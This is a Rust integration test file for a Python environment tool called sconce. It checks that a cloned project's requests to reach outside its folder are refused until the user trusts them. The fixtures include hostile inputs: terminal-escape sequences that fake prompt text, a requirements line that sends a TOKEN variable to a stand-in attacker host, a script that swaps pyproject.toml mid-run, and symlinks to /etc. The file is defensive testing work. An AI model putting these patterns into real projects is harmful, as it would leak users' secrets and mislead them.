//! A project that was cloned: what its files ask for outside its folder, as a user meets it.

use std::fs::{self, Permissions};
use std::io::Write;
use std::os::unix::fs::{PermissionsExt, symlink};
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};
use std::time::{Duration, Instant};

/// A home of one's own, a project in it, and a uv that only says that it was called.
struct World {
    dir: tempfile::TempDir,
}

impl World {
    fn new(toml: &str) -> Self {
        let world = Self { dir: tempfile::tempdir().unwrap() };
        fs::create_dir(world.project()).unwrap();
        world.write("sconce.toml", toml);
        let uv = world.path("uv");
        let called = world.path("called");
        let script = format!(
            "#!/bin/sh\n[ \"$1\" = --version ] && echo 'uv 99.0.0' && exit\ncat >{0}.input\necho \"$@\" >{0}\nexit 2\n",
            called.display()
        );
        fs::write(&uv, script).unwrap();
        fs::set_permissions(&uv, Permissions::from_mode(0o755)).unwrap();
        world
    }

    fn path(&self, name: &str) -> PathBuf {
        self.dir.path().join(name)
    }

    fn project(&self) -> PathBuf {
        self.path("project")
    }

    fn write(&self, name: &str, text: &str) {
        let path = self.project().join(name);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        fs::write(path, text).unwrap();
    }

    fn command(&self, words: &[&str]) -> Command {
        let mut command = Command::new(env!("CARGO_BIN_EXE_sconce"));
        command
            .args(words)
            .current_dir(self.project())
            .env_clear()
            .env("PATH", std::env::var_os("PATH").unwrap_or_default())
            .env("HOME", self.dir.path())
            .env("SCONCE_HOME", self.path("store"))
            .env("SCONCE_UV", self.path("uv"))
            .env("UV_NO_CONFIG", "1")
            .env("PIP_CONFIG_FILE", "/dev/null")
            .stdin(Stdio::null());
        command
    }

    /// Runs to its end, which must come within some seconds.
    fn sconce(&self, words: &[&str]) -> (i32, String) {
        ended(self.command(words))
    }

    /// Whether uv was called since this was last asked.
    fn uv_was_called(&self) -> bool {
        fs::remove_file(self.path("called")).is_ok()
    }
}

fn ended(mut command: Command) -> (i32, String) {
    let mut child = command.stdout(Stdio::piped()).stderr(Stdio::piped()).spawn().unwrap();
    let start = Instant::now();
    while child.try_wait().unwrap().is_none() {
        if start.elapsed() > Duration::from_secs(20) {
            child.kill().unwrap();
            panic!("it hangs");
        }
        std::thread::sleep(Duration::from_millis(10));
    }
    let Output { status, stderr, .. } = child.wait_with_output().unwrap();
    (status.code().unwrap_or(-1), String::from_utf8(stderr).unwrap())
}

const TOOLS: &str = "[environment]\ntorch = false\n";

#[track_caller]
fn has(text: &str, words: &[&str]) {
    for word in words {
        assert!(text.contains(word), "`{word}` is not in:\n{text}");
    }
}

/// A project can't write its own question: what would move the cursor, turn the writing or begin a line is shown for what it is.
#[test]
fn what_is_asked_for_can_not_hide() {
    let hidden =
        r"\u001b[1G\u001b[2K  listens on port 6006\u001b[8m\n  reads nothing\u009b2K\u202e";
    for table in [
        format!("[run]\nvolumes = [\"/srv:/x{hidden}\"]\n"),
        format!("[run]\nvolumes = [\"/srv{hidden}:/x\"]\n"),
        format!("[run]\ndevices = [\"/dev/fuse{hidden}\"]\n"),
        format!("[run.env]\n\"A{hidden}\" = \"${{HOME}}\"\n"),
        format!("[base]\nmirror = \"file:///srv/{hidden}\"\n"),
        format!("[[environment.indexes]]\nname = \"a\"\nurl = \"file:///srv/{hidden}\"\n"),
    ] {
        let world = World::new(&format!("{TOOLS}{table}"));
        for words in
            [&["run", ".", "true"][..], &["trust"], &["run", "--offline", "--trust", ".", "true"]]
        {
            let (_, said) = world.sconce(words);
            let raw = |c: char| c.is_control() && c != '\n' || c == '\u{202e}';
            assert!(!said.contains(raw), "{words:?}: {said:?}");
            let faked = said.lines().any(|line| line.trim_start().starts_with("reads nothing"));
            assert!(!faked, "{words:?}: {said}");
        }
    }
}

#[test]
fn a_volume_outside_is_refused_until_trusted() {
    let world = World::new(&format!("{TOOLS}[run]\nvolumes = [\"/:/host\", \"./data:/data\"]\n"));
    let (code, said) = world.sconce(&["run", ".", "true"]);
    assert_eq!(code, 125, "{said}");
    has(&said, &["mounts / at /host, writable", "[run] volumes", "sconce trust /", "--trust"]);
    assert!(!said.contains("/data"), "what is inside needs no trust: {said}");
    // Locking and building use no volume.
    let (code, said) = world.sconce(&["lock", "--offline"]);
    assert!(code != 9 && !said.contains("trust"), "{code}: {said}");

    let (code, said) = world.sconce(&["trust"]);
    assert_eq!(code, 0, "{said}");
    has(&said, &["mounts / at /host"]);
    let (code, said) = world.sconce(&["run", "--offline", ".", "true"]);
    assert!(code != 125 || !said.contains("not trusted"), "{code}: {said}");
    has(&said, &["/project reaches outside its folder: mounts / at /host, writable"]);

    // A longer list is another list.
    world.write("sconce.toml", &format!("{TOOLS}[run]\nvolumes = [\"/:/host\", \"/etc:/e:ro\"]\n"));
    let (code, said) = world.sconce(&["run", "--offline", ".", "true"]);
    assert_eq!(code, 125, "{said}");
    has(&said, &["mounts /etc at /e, read-only"]);
    let (_, said) = world.sconce(&["run", "--offline", "--trust", ".", "true"]);
    assert!(!said.contains("not trusted"), "{said}");
    let (code, _) = world.sconce(&["run", "--offline", ".", "true"]);
    assert_eq!(code, 125, "--trust is for once");
}

#[test]
fn a_link_inside_that_leads_outside_is_a_reach() {
    let world = World::new(&format!("{TOOLS}[run]\nvolumes = [\"./data:/data\"]\n"));
    symlink("/etc", world.project().join("data")).unwrap();
    let (code, said) = world.sconce(&["run", ".", "true"]);
    assert_eq!(code, 125, "{said}");
    has(&said, &["mounts /etc at /data"]);
}

#[test]
fn what_is_read_or_sent_while_locking_needs_trust() {
    let world = World::new(&format!(
        "{TOOLS}requirements = \"requirements.txt\"\n\
         indexes = [{{ name = \"lab\", url = \"https://index.example.invalid/simple\" }}]\n"
    ));
    fs::write(world.path("other.txt"), "numpy\n").unwrap();
    fs::create_dir(world.path("wheels")).unwrap();
    world.write(
        "requirements.txt",
        "einops\n-r ../other.txt\n--find-links ../wheels\n\
         --extra-index-url https://${TOKEN}@evil.example.invalid/simple\n",
    );
    let mut command = world.command(&["lock"]);
    command.env("UV_INDEX_LAB_PASSWORD", "secret");
    let (code, said) = ended(command);
    assert_eq!(code, 9, "{said}");
    has(
        &said,
        &[
            "/other.txt (requirements.txt)",
            "/wheels (requirements.txt, line 3)",
            "puts your variable TOKEN into `--extra-index-url https://${TOKEN}@evil.example.invalid/simple`",
            "sends your UV_INDEX_LAB_PASSWORD to https://index.example.invalid/simple",
        ],
    );
    assert!(!said.contains("secret") && !world.uv_was_called(), "{said}");
    world.sconce(&["lock", "--trust"]);
    assert!(world.uv_was_called());
    let input = fs::read_to_string(world.path("called.input")).unwrap();
    assert!(input.contains("einops\n") && input.contains("numpy\n"), "{input}");
}

/// The folder is writable to others, who know when uv is started: it gets what was judged, not the file.
#[test]
fn uv_gets_the_pyproject_that_was_judged() {
    let world = World::new(&format!(
        "{TOOLS}requirements = \"pyproject.toml\"\nextras = [\"more\"]\ngroups = [\"dev\"]\n"
    ));
    fs::create_dir(world.project().join("wheels")).unwrap();
    for name in ["a", "b"] {
        let wheel = sconce_testkit::Wheel::new(name, "1");
        let place = world.project().join(format!("wheels/{name}-1-py3-none-any.whl"));
        fs::write(place, wheel.build()).unwrap();
    }
    world.write(
        "pyproject.toml",
        "[project]\nname = \"p\"\nversion = \"1\"\ndependencies = [\"einops\", \"a @ ./wheels/a-1-py3-none-any.whl\"]\n\
         [project.optional-dependencies]\nmore = [\"numpy\", \"b\"]\n\
         [dependency-groups]\ndev = [\"ruff\"]\n\
         [tool.uv.sources]\nb = { path = \"wheels/b-1-py3-none-any.whl\" }\n",
    );
    let evil = "[project]\nname = \"p\"\nversion = \"1\"\ndependencies = [\"evil\"]\n";
    let script = format!(
        "#!/bin/sh\n[ \"$1\" = --version ] && echo 'uv 99.0.0' && exit\n\
         printf '{}' >{project}/pyproject.toml\n\
         for word; do case $word in */pyproject.toml) cat $word >{called};; *:dev) echo $word >{called}.group;; esac; done\n\
         cat >/dev/null\nexit 2\n",
        evil.replace('\n', "\\n"),
        project = world.project().display(),
        called = world.path("called").display(),
    );
    fs::write(world.path("uv"), script).unwrap();
    let (code, said) = world.sconce(&["lock"]);
    assert_eq!((code, said.contains("not trusted")), (3, false), "{said}");
    assert!(fs::read_to_string(world.project().join("pyproject.toml")).unwrap().contains("evil"));
    let given = fs::read_to_string(world.path("called")).unwrap();
    assert!(!given.contains("evil"), "{given}");
    let wheel =
        |name: &str| format!("{}/wheels/{name}-1-py3-none-any.whl", world.project().display());
    has(&given, &["einops", "numpy", "ruff", &wheel("a"), &wheel("b"), "[tool.uv.workspace]"]);
    let group = fs::read_to_string(world.path("called.group")).unwrap();
    assert!(group.ends_with("/pyproject.toml:dev\n") && !group.contains("/project/"), "{group}");
}

/// What extras and groups take from outside is asked about as what dependencies do.
#[test]
fn extras_and_groups_reach_out_as_well() {
    let world = World::new(&format!(
        "{TOOLS}requirements = \"pyproject.toml\"\nextras = [\"more\"]\ngroups = [\"dev\"]\n"
    ));
    let project = "[project]\nname = \"p\"\nversion = \"1\"\n[project.optional-dependencies]\n";
    let extra = "more = [\"x @ file:///srv/x-1-py3-none-any.whl\"]\n";
    let group = "[dependency-groups]\ndev = [\"y @ file:///srv/y-1-py3-none-any.whl\"]\n";
    world.write("pyproject.toml", &format!("{project}{extra}{group}"));
    let (code, said) = world.sconce(&["lock"]);
    assert_eq!(code, 9, "{said}");
    has(&said, &["reads /srv/x-1-py3-none-any.whl", "reads /srv/y-1-py3-none-any.whl"]);
    let group = "[dependency-groups]\ndev = [\"y @ git+https://h.example.invalid/y\"]\n";
    world.write("pyproject.toml", &format!("{project}more = []\n{group}"));
    let (code, said) = world.sconce(&["lock"]);
    assert_eq!(code, 3, "{said}");
    has(&said, &["it is a repository, whose code would run here"]);
    assert!(!world.uv_was_called());
}

/// uv runs the build backend of what is editable, whatever it is told. So it is not called.
#[test]
fn nothing_of_a_project_is_built() {
    let world = World::new(&format!("{TOOLS}requirements = \"requirements.txt\"\n"));
    for line in [
        "-e ${PWD}",
        "--editable=.",
        ".",
        "./",
        "file:.",
        "x @ file:///srv/x",
        "x @ git+https://h.example.invalid/x",
        "./x-1.tar.gz",
        "numpy --hash=sha256:00 -e .",
    ] {
        world.write("requirements.txt", &format!("numpy\n# a comment\n{line}\n"));
        let (code, said) = world.sconce(&["lock", "--trust"]);
        assert_eq!(code, 3, "{line}: {said}");
        has(&said, &["requirements.txt, line 3"]);
        assert!(!world.uv_was_called(), "{line}");
    }
    world.write("requirements.txt", "-r more/base.txt\n");
    world.write("more/base.txt", "numpy \\\n  >=1\n-e \\\n .\n");
    let (code, said) = world.sconce(&["run", "--trust", ".", "true"]);
    assert_ne!(code, 0);
    has(&said, &["more/base.txt, line 3", "runs its own code here", "pip wheel"]);
    for (list, word) in [("x @ file:///srv/x", "folder"), ("x @ git+https://h/x", "repository")] {
        world.write("sconce.toml", &format!("{TOOLS}requirements = [\"{list}\"]\n"));
        let (code, said) = world.sconce(&["lock", "--trust"]);
        assert_eq!(code, 3, "{said}");
        has(&said, &["sconce.toml, line 3", word]);
    }
    assert!(!world.uv_was_called());
}

#[test]
fn a_pyproject_that_must_be_built_is_refused() {
    let world = World::new(&format!("{TOOLS}requirements = \"pyproject.toml\"\n"));
    let project = "[project]\nname = \"x\"\nversion = \"1\"\ndependencies = [\"y\"]\n";
    for (text, word) in [
        ("[build-system]\nrequires = []\n".to_owned(), "no [project] table"),
        ("[project]\nname = \"x\"\ndynamic = [\"dependencies\"]\n".to_owned(), "dynamic"),
        (
            format!("{project}[tool.uv.sources]\ny = {{ path = \".\", editable = true }}\n"),
            "folder",
        ),
        (format!("{project}[tool.uv.sources]\nY = {{ workspace = true }}\n"), "folder"),
        (format!("{project}[tool.uv.sources]\ny = [{{ git = \"https://h/y\" }}]\n"), "repository"),
        (format!("{project}[tool.uv.sources.y]\nurl = \"https://h/y.zip\"\n"), "source"),
        (project.replace("\"y\"", "\"y @ file:///srv/y\""), "folder"),
    ] {
        world.write("pyproject.toml", &text);
        let (code, said) = world.sconce(&["lock", "--trust"]);
        assert_eq!(code, 3, "{text}: {said}");
        has(&said, &["pyproject.toml, line", word]);
        assert!(!world.uv_was_called(), "{text}");
    }
    // What only a group of tools needs is not asked for.
    let group = "[dependency-groups]\ndev = [\"z\"]\n[tool.uv.sources]\nz = { workspace = true }\n";
    world.write("pyproject.toml", &format!("{project}{group}"));
    world.sconce(&["lock"]);
    assert!(world.uv_was_called());
    let wheel = "[tool.uv.sources]\ny = { path = \"../y-1-py3-none-any.whl\" }\n";
    world.write("pyproject.toml", &format!("{project}{wheel}"));
    let (code, said) = world.sconce(&["lock"]);
    assert_eq!(code, 9, "{said}");
    has(&said, &["/y-1-py3-none-any.whl (pyproject.toml, line 6)"]);
}

/// A document that is a device or a pipe, wherever it stands, ends at once and by name.
#[test]
fn documents_that_are_none_are_refused_at_once() {
    let fifo = |path: &Path| {
        assert!(Command::new("mkfifo").arg(path).status().unwrap().success());
    };
    let world = World::new(TOOLS);
    symlink("/dev/zero", world.project().join("sconce.lock")).unwrap();
    for words in
        [&["build", "."][..], &["lock", "--check"], &["run", ".", "true"], &["doctor", "."]]
    {
        let (code, said) = world.sconce(words);
        assert_ne!(code, 0, "{words:?}");
        has(&said, &["sconce.lock", "character device"]);
    }
    fs::remove_file(world.project().join("sconce.lock")).unwrap();
    // A link out of the folder, which nobody was asked about.
    fs::write(world.path("elsewhere.lock"), "secret").unwrap();
    symlink("../elsewhere.lock", world.project().join("sconce.lock")).unwrap();
    let (code, said) = world.sconce(&["build", "."]);
    assert_ne!(code, 0);
    has(&said, &["sconce.lock", "out of the project's folder"]);
    assert!(!said.contains("secret"), "{said}");
    fs::remove_file(world.project().join("sconce.lock")).unwrap();
    fifo(&world.project().join("sconce.lock"));
    has(&world.sconce(&["inspect", "."]).1, &["sconce.lock", "FIFO"]);
    fs::remove_file(world.project().join("sconce.toml")).unwrap();
    fifo(&world.project().join("sconce.toml"));
    has(&world.sconce(&["lock"]).1, &["sconce.toml", "FIFO"]);
    fifo(&world.path("pipe"));
    let pipe = world.path("pipe").display().to_string();
    has(&world.sconce(&["doctor", "--from", &pipe]).1, &[&pipe, "FIFO"]);

    let world = World::new(&format!("{TOOLS}requirements = \"r.txt\"\n"));
    symlink("/dev/zero", world.project().join("r.txt")).unwrap();
    has(&world.sconce(&["lock"]).1, &["r.txt", "character device"]);
}

/// What a person pipes in is their own.
#[test]
fn a_snapshot_can_be_piped_in() {
    let world = World::new(TOOLS);
    let path = concat!(env!("CARGO_MANIFEST_DIR"), "/../doctor/tests/snapshots/h100-vm.json");
    let snapshot = fs::read(path).unwrap();
    let mut command = world.command(&["doctor", "--from", "/dev/stdin"]);
    let mut child = command
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    child.stdin.take().unwrap().write_all(&snapshot).unwrap();
    let output = child.wait_with_output().unwrap();
    assert_eq!(output.status.code(), Some(0), "{output:?}");
}

/// On a terminal it is asked once, and remembered.
#[test]
fn a_terminal_is_asked() {
    let world = World::new(&format!("{TOOLS}[run]\nvolumes = [\"/srv:/srv\"]\n"));
    // Python's pty gives the program a terminal; answers are what it reads there.
    let program = "import os, pty, sys\n\
                   answer = sys.argv[1].encode()\n\
                   seen = b''\n\
                   def read(fd):\n    global seen\n    data = os.read(fd, 1024)\n    seen += data\n\
                   \x20   if b'[y/N]' in seen:\n        seen = b''\n        os.write(fd, answer + b'\\n')\n    return data\n\
                   sys.exit(os.waitstatus_to_exitcode(pty.spawn(sys.argv[2:], read)))\n";
    let asked = |answer: &str| {
        let inner = world.command(&[]);
        let mut command = Command::new("python3");
        command.args([
            "-c",
            program,
            answer,
            env!("CARGO_BIN_EXE_sconce"),
            "run",
            "--offline",
            ".",
            "true",
        ]);
        command.current_dir(world.project()).env_clear().stdin(Stdio::null());
        command.envs(inner.get_envs().filter_map(|(name, value)| Some((name, value?))));
        let output = command.output().unwrap();
        String::from_utf8_lossy(&output.stdout).into_owned()
    };
    let said = asked("n");
    has(&said, &["mounts /srv at /srv", "[y/N]", "not trusted"]);
    let said = asked("y");
    has(&said, &["[y/N]", "reaches outside its folder"]);
    let said = asked("n");
    assert!(!said.contains("[y/N]"), "{said}");
    has(&said, &["reaches outside its folder: mounts /srv at /srv"]);
    let (code, said) = world.sconce(&["trust", "--revoke"]);
    assert_eq!(code, 0, "{said}");
    assert_eq!(world.sconce(&["run", "--offline", ".", "true"]).0, 125);
}
